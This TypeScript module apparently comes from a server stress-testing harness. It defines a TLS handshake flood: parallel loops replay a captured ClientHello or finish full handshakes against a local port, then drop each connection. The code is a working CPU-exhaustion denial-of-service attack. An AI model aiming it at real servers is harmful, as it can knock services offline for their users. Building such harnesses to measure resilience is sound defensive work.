import { connect, createServer, type Socket } from 'node:net';
import { connect as connectSecurely } from 'node:tls';
import type { Attack } from '../attack.js';
import { attackerAddress } from '../sockets.js';

/** Where a peer leaves: when the server has answered its hello, or when the handshake is through. */
export type HandshakeEnd = 'begun' | 'finished';

/** So many loops that make one TLS handshake after the other, and leave each. */
export function handshakes(atOnce: number, where: HandshakeEnd): Attack {
  return async ({ tlsPort }) => {
    const to = { host: '127.0.0.1', port: tlsPort!, localAddress: attackerAddress };
    const hello = await firstBytes();
    let made = 0;
    const goOn = () => {
      const isFinished = where === 'finished';
      const socket: Socket = isFinished ? connectSecurely({ ...to, rejectUnauthorized: false }) : connect(to);
      if (!isFinished) socket.write(hello);
      socket.once(isFinished ? 'secureConnect' : 'data', () => {
        made++;
        socket.destroy();
      });
      socket.on('error', () => {}).once('close', () => setImmediate(goOn));
    };
    for (let count = 0; count < atOnce; count++) goOn();
    return () => ({ made });
  };
}

/** What a TLS client sends first; a server answers it however often it comes. */
async function firstBytes(): Promise<Buffer> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const coming = new Promise<Buffer>((resolve) => {
    server.once('connection', (socket) => {
      socket
        .on('error', () => {})
        .once('data', (bytes) => {
          socket.destroy();
          resolve(bytes);
        });
    });
  });
  const { port } = server.address() as { port: number };
  connectSecurely({ host: '127.0.0.1', port, rejectUnauthorized: false }).on('error', () => {});
  const bytes = await coming;
  server.close();
  return bytes;
}
